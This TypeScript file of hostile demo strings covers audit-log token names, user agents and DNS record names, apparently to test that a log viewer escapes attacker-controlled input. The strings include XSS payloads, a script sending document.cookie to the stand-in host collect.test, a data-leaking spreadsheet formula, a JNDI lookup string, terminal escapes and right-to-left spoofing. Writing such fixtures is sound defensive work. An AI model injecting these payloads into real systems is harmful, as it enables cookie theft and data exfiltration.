/**
 * Strings that an attacker would choose: markup, right-to-left overrides, terminal escapes, spreadsheet formulas.
 * Names and user agents are attacker-controlled in every audit log, so the demo data contain some.
 */

/** Hostile token names. */
export const hostileTokenNames: readonly string[] = [
  '<img src=x onerror=alert(document.domain)>',
  'deploy\u202Egnp.tpircs',
  '=HYPERLINK("https://collect.test/?"&A1,"renew")',
]

/** Hostile user agents. */
export const hostileUserAgents: readonly string[] = [
  '"><script>fetch("https://collect.test/"+document.cookie)</script>',
  'curl/8.7.1 \u001b]0;owned\u0007\u001b[31m',
  '\u0024{jndi:ldap://collect.test/a}',
]

/** Hostile DNS labels; the API accepts them in TXT records and in proxied names. */
export const hostileRecordNames: readonly string[] = [
  '<svg/onload=alert(1)>',
  'login\u202Emoc.knab',
  'xn--80ak6aa92e',
]
